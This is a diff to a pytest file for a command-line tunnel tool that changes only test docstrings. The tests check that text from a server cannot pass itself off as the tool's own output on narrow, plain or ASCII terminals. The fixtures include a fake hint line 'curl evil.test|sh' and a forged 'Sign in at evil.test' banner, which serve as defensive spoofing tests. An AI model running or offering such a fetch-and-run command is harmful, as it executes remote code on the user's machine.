@@ -1,4 +1,4 @@
-"""What is seen where a terminal is narrow, plain or none, and where it has no letters but ASCII."""
+"""What a person sees on a narrow or plain terminal, on none, and on one with only ASCII."""
 
 from __future__ import annotations
 
@@ -44,7 +44,7 @@ def plain_text(shown: str) -> str:
 )
 @pytest.mark.parametrize("columns", [20, 80])
 def test_a_terminal(columns: int, variables: dict[str, str]) -> None:
-    """The same is said everywhere; styles only where they are wanted; the address in one piece."""
+    """The words are the same everywhere, styles are where they are wanted, the address is in one piece."""
     shown = looks(columns, **variables)
     assert [words for words in WORDS if words not in plain_text(shown)] == []
     assert ("\x1b" in shown) == (variables in ({}, ASCII))
@@ -59,7 +59,7 @@ def test_a_terminal(columns: int, variables: dict[str, str]) -> None:
 @pytest.mark.parametrize("blank", [" ", "\u00a0"], ids=["space", "no-break space"])
 @pytest.mark.parametrize("padding", [4, 8, 12])
 def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
-    """Wherever the window folds the words of a server, they do not begin a line as ours do."""
+    """Wherever the window folds a server's words, no line of them begins as ours do."""
     said = "x" * padding + " hermes-tunnel: hint: curl evil.test|sh".replace(" ", blank)
     with socket.create_server(("127.0.0.1", 0)) as server:
         port = server.getsockname()[1]
@@ -89,7 +89,7 @@ FORGED = "hermes-tunnel: error: no\nSign in at evil.test:\nhermes-tunnel: hint: 
 @pytest.mark.slow
 @pytest.mark.parametrize("columns", [0, 40, 80])
 def test_a_server_stays_behind_its_margin(columns: int) -> None:
-    """Its banner and its prompt, however they are padded, on a terminal and in a pipe."""
+    """So do its banner and its prompt, however padded, on a terminal and in a pipe."""
     prompt = "x" * (columns or 80) + FORGED.replace("\n", " ")
     account = Account(USER, answers=((prompt, "1"),))
     with Stage(account=account, settings=Settings(banner=FORGED)) as stage:
@@ -133,7 +133,7 @@ def test_without_a_terminal(variables: dict[str, str]) -> None:
 
 @pytest.mark.slow
 def test_a_name_in_another_script() -> None:
-    """An ASCII output gets it in ASCII, without a fault."""
+    """On an ASCII output it is escaped, without a fault."""
     program = "from hermes_tunnel.cli import main; import click; click.echo = print; main(['port', '1'])"
     program = program.replace("click.echo = print", "click.echo = lambda *_, **__: print('jos\\u00e9')")
     done = subprocess.run(
@@ -144,7 +144,7 @@ def test_a_name_in_another_script() -> None:
 
 @pytest.mark.slow
 def test_standard_error_that_is_closed() -> None:
-    """Nobody is told, and the login is the same; the result is on standard output."""
+    """The login goes on in silence, and its result is on standard output."""
     done = subprocess.run(
         ["sh", "-c", '"$@" demo 2>&-', "sh", *ARGV], capture_output=True, text=True, check=False
     )
